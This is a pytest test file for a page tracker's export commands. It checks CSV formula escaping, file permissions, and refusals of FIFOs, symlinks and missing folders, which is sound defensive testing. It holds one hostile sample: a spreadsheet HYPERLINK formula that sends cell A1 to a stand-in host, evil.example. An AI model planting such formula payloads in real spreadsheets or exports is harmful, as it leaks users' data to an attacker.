"""Exports are safe to open and to aim: text that a spreadsheet would run as a formula is
escaped, files get the permissions the umask gives, a missing folder is refused, not created,
and an output path replaces only a new or regular file (`-` is standard output): a FIFO, a
folder or a device behind a symlink is refused untouched, and a Markdown export stays in its
folder."""

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

from tracker.archive import corpus_pages

pytestmark = pytest.mark.migrated  # the schema is not these tests' subject (conftest's database_url)

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def exported(tracker_cli, archive, sample_corpus):
    """The voip.com page tracked under a provider name meant to run in a spreadsheet."""
    page = next(p for p in corpus_pages(sample_corpus) if p.provider == "voip.com")
    tracker_cli("add", page.urls[0], "--provider", HOSTILE)
    tracker_cli.env["TRACKER_WAYBACK_URL"] = archive.url
    tracker_cli("backfill", "--quiet")
    return tracker_cli


def test_csv_cells_that_start_like_a_formula_are_escaped(exported, tmp_path):
    out = tmp_path / "versions.csv"
    exported("export", str(out), "--what", "versions")
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows and {row["provider"] for row in rows} == {"'" + HOSTILE}
    if exported.env["TRACKER_DATABASE_URL"].startswith("postgresql"):
        exported("db", "grant-readonly")
    result = exported("sql", "SELECT name FROM provider", "--format", "csv")
    assert list(csv.reader(io.StringIO(result.output)))[1] == ["'" + HOSTILE]


def test_exported_files_follow_the_umask(exported, tmp_path):
    previous = os.umask(0o022)
    try:
        exported("export", str(tmp_path / "changes.jsonl"), "--what", "changes", "--format", "jsonl")
        exported("export-markdown", HOSTILE, str(tmp_path / "md"))
    finally:
        os.umask(previous)
    assert stat.S_IMODE((tmp_path / "changes.jsonl").stat().st_mode) == 0o644
    markdown = list((tmp_path / "md").rglob("*.md"))
    assert markdown and all(stat.S_IMODE(p.stat().st_mode) == 0o644 for p in markdown)


def test_export_refuses_a_missing_folder(exported, tmp_path):
    result = exported("export", str(tmp_path / "no" / "such" / "out.csv"), "--what", "versions", ok=False)
    assert "no folder" in result.output and len(result.output.strip().splitlines()) == 1
    result = exported("export-markdown", HOSTILE, str(tmp_path / "no" / "such"), ok=False)
    assert "no folder" in result.output
    assert not (tmp_path / "no").exists()


def test_raw_captures_follow_the_umask(tracker_cli, archive, sample_corpus):
    page = next(p for p in corpus_pages(sample_corpus) if p.provider == "voip.com")
    tracker_cli("add", page.urls[0], "--provider", "voip.com")
    tracker_cli.env["TRACKER_WAYBACK_URL"] = archive.url
    previous = os.umask(0o022)
    try:
        tracker_cli("backfill", "--quiet")
    finally:
        os.umask(previous)
    stored = [p for p in Path(tracker_cli.env["TRACKER_SNAPSHOTS_DIR"]).rglob("*")
              if p.is_file() and not p.name.startswith(".")]
    assert stored and {stat.S_IMODE(p.stat().st_mode) for p in stored} == {0o644}


def one_line_refusal(result) -> str:
    assert result.exit_code == 1 and len(result.output.strip().splitlines()) == 1, result.output
    return result.output


def test_export_to_dash_writes_standard_output_not_a_file(exported, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = exported("export", "-", "--what", "changes", "--format", "jsonl")
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert rows and all(row["provider"] == HOSTILE for row in rows)
    assert f"{len(rows)} changes written to standard output" in result.stderr
    assert not (tmp_path / "-").exists()


def test_export_refuses_a_fifo_a_folder_and_a_device_behind_a_symlink(exported, tmp_path):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "folder").mkdir()
    (tmp_path / "stdout").symlink_to(os.devnull)  # what /dev/stdout is to a terminal
    for name, kind in (("pipe", "a FIFO"), ("folder", "a folder"), ("stdout", "a character device")):
        result = exported("export", str(tmp_path / name), "--what", "changes", ok=False)
        assert f"is {kind}, not a file" in one_line_refusal(result)
    assert stat.S_ISFIFO((tmp_path / "pipe").lstat().st_mode)
    assert list((tmp_path / "folder").iterdir()) == [] and os.readlink(tmp_path / "stdout") == os.devnull


def test_export_through_a_symlink_writes_the_file_it_names_outside_the_folder(exported, tmp_path):
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "versions.csv").write_text("stale\n")
    (tmp_path / "out").mkdir()
    link = tmp_path / "out" / "versions.csv"
    link.symlink_to(tmp_path / "shared" / "versions.csv")
    exported("export", str(link), "--what", "versions")
    assert link.is_symlink()
    rows = list(csv.DictReader((tmp_path / "shared" / "versions.csv").open(encoding="utf-8")))
    assert rows and rows[0]["provider"] == "'" + HOSTILE


def test_export_markdown_stays_in_its_folder(exported, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    names = [p.relative_to(tmp_path / "first") for p in _markdown(exported, tmp_path / "first")]
    outside = tmp_path / "outside"
    outside.mkdir()
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / names[0].parent).symlink_to(outside, target_is_directory=True)
    assert "leads out of" in one_line_refusal(exported("export-markdown", HOSTILE, str(linked), ok=False))
    assert list(outside.iterdir()) == []
    piped = tmp_path / "piped"
    (piped / names[0].parent).mkdir(parents=True)
    os.mkfifo(piped / names[0])
    assert "is a FIFO, not a file" in one_line_refusal(exported("export-markdown", HOSTILE, str(piped), ok=False))
    assert stat.S_ISFIFO((piped / names[0]).lstat().st_mode)
    os.mkfifo(tmp_path / "fifo-folder")
    for target in (str(tmp_path / "fifo-folder"), "-"):
        one_line_refusal(exported("export-markdown", HOSTILE, target, ok=False))
    assert not (tmp_path / "-").exists()


def _markdown(run, folder):
    run("export-markdown", HOSTILE, str(folder))
    return sorted(folder.rglob("*.md"))
